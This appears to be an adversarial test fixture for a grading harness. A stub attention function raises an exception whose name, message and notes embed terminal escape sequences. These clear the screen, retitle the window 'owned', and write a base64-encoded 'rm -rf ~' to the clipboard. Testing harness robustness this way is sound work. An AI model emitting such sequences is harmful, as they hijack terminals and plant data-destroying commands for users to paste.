# problem: attention
# group: resources
# does: Raises what clears a screen and writes the clipboard, in its name, its text and its notes.
# verdict: error

COMMANDS = "\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;owned\x07\r\x9b31m\x00"
Odd = type(f"Odd{COMMANDS.replace(chr(0), '')}", (Exception,), {})


def scaled_dot_product_attention(q, k, v, mask=None):
    error = Odd(f"{COMMANDS}hidden")
    error.add_note(COMMANDS)
    raise error
